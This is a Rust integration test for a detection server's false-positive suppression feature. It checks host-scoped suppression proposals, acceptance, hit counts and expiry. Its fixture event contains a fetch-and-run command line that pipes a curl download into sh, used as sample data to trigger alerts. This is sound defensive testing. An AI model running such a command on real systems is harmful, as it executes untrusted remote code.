//! False-positive learning through a live server: an alert marked a false positive
//! proposes a suppression scoped to its rule and what it named (here its host), replayed
//! over the rule's past detections; until accepted it suppresses nothing; accepted, the
//! same detection on that host raises no alert and is counted, while the same rule on
//! another host still alerts; the rules list counts the marks; ended, it suppresses no
//! more.

mod common;

use common::{Server, eventually, get_json, http};
use serde_json::{Value, json};

/// A download piped into a shell on `host`, which the built-in rules alert on.
async fn post_event(http: &reqwest::Client, server: &Server, host: &str, pid: u32) {
    let posted = http
        .post(server.url("/api/v1/events"))
        .json(&json!([{"host": {"name": host}, "event": {"category": ["process"], "action": "exec"},
                       "process": {"pid": pid, "name": "sh", "executable": "/usr/bin/dash",
                                   "command_line": "sh -c 'curl -s http://198.51.100.20/backup.sh | sh'",
                                   "parent": {"pid": 4000, "command_line": "/usr/sbin/cron -f"}}}]))
        .send()
        .await
        .unwrap();
    assert!(posted.status().is_success());
}

/// Detections folded into the alerts of `host`.
async fn alerted(http: &reqwest::Client, server: &Server, host: &str) -> u64 {
    get_json(http, server.url(&format!("/api/v1/alerts?host={host}"))).await["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["count"].as_u64().unwrap())
        .sum()
}

async fn post(
    http: &reqwest::Client,
    url: String,
    method: reqwest::Method,
    body: Value,
) -> (u16, Value) {
    let r = http.request(method, url).json(&body).send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or_default())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_false_positive_proposes_a_scoped_suppression_that_works_once_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();
    for pid in [101, 102, 103] {
        post_event(&http, &server, "backup-1", pid).await;
    }
    post_event(&http, &server, "web-1", 201).await;
    eventually("the four detections alerted", || async {
        alerted(&http, &server, "backup-1").await == 3
            && alerted(&http, &server, "web-1").await == 1
    })
    .await;
    let first =
        get_json(&http, server.url("/api/v1/alerts?host=backup-1")).await["items"][0].clone();
    let rule = first["rule_id"].as_str().unwrap().to_string();

    // Marked a false positive: a proposal, scoped to the host, replayed over the past.
    let (status, marked) = post(
        &http,
        server.url(&format!(
            "/api/v1/alerts/{}/status",
            first["id"].as_str().unwrap()
        )),
        reqwest::Method::PUT,
        json!({"status": "false_positive", "reason": "the nightly backup script"}),
    )
    .await;
    assert_eq!(status, 200, "{marked}");
    let proposal = marked["suppression"].clone();
    assert_eq!(proposal["state"], "proposed", "{marked:#}");
    assert_eq!(proposal["rule_id"], rule.as_str());
    assert_eq!(proposal["conditions"]["host"], "backup-1", "{proposal:#}");
    assert_eq!(
        proposal["reason"],
        "false positive: the nightly backup script"
    );
    assert_eq!(proposal["replay"]["would_suppress"], 3, "{proposal:#}");
    assert_eq!(proposal["replay"]["of"], 4, "{proposal:#}");
    let id = proposal["id"].as_str().unwrap().to_string();

    // Not accepted yet: the same detection still alerts.
    post_event(&http, &server, "backup-1", 104).await;
    eventually("a proposal suppresses nothing", || async {
        alerted(&http, &server, "backup-1").await == 4
    })
    .await;

    // Accepted: the host's detections of the rule raise no alert, another host's do.
    let (status, accepted) = post(
        &http,
        server.url(&format!("/api/v1/suppressions/{id}/accept")),
        reqwest::Method::POST,
        json!({"days": 30, "review_days": 7}),
    )
    .await;
    assert_eq!(status, 200, "{accepted}");
    assert_eq!(accepted["state"], "active");
    assert!(accepted["expires_at"].is_string() && accepted["review_at"].is_string());
    post_event(&http, &server, "backup-1", 105).await;
    post_event(&http, &server, "web-1", 202).await;
    eventually("web-1 still alerts", || async {
        alerted(&http, &server, "web-1").await == 2
    })
    .await;
    assert_eq!(
        alerted(&http, &server, "backup-1").await,
        4,
        "suppressed on backup-1"
    );
    let listed = get_json(&http, server.url("/api/v1/suppressions?status=active")).await;
    assert_eq!(listed["items"][0]["hits"], 1, "{listed:#}");
    assert_eq!(listed["items"][0]["review_due"], false);
    let detections = get_json(&http, server.url("/api/v1/detections?host=backup-1")).await;
    assert_eq!(
        detections["items"].as_array().unwrap().len(),
        5,
        "a suppressed detection is kept, it only raises no alert"
    );

    // The rules list counts the marks; a second mark of the same scope adds to it.
    let second = get_json(&http, server.url("/api/v1/alerts?host=backup-1")).await["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] != first["id"])
        .unwrap()
        .clone();
    let (_, again) = post(
        &http,
        server.url(&format!(
            "/api/v1/alerts/{}/status",
            second["id"].as_str().unwrap()
        )),
        reqwest::Method::PUT,
        json!({"status": "false_positive"}),
    )
    .await;
    assert_eq!(
        again["suppression"]["id"],
        id.as_str(),
        "the same scope: one suppression"
    );
    assert_eq!(again["suppression"]["marks"], 2);
    let rules = get_json(&http, server.url(&format!("/api/v1/rules?q={rule}"))).await;
    assert_eq!(rules["items"][0]["false_positives"], 2, "{rules:#}");

    // Ended: the host's detections alert again.
    let (status, ended) = post(
        &http,
        server.url(&format!("/api/v1/suppressions/{id}")),
        reqwest::Method::DELETE,
        json!(null),
    )
    .await;
    assert_eq!(status, 200, "{ended}");
    assert_eq!(ended["state"], "expired");
    post_event(&http, &server, "backup-1", 106).await;
    eventually("backup-1 alerts again", || async {
        alerted(&http, &server, "backup-1").await == 5
    })
    .await;
    // A rejected or ended suppression cannot be accepted.
    let (status, _) = post(
        &http,
        server.url(&format!("/api/v1/suppressions/{id}/accept")),
        reqwest::Method::POST,
        json!({}),
    )
    .await;
    assert_eq!(status, 409);
}
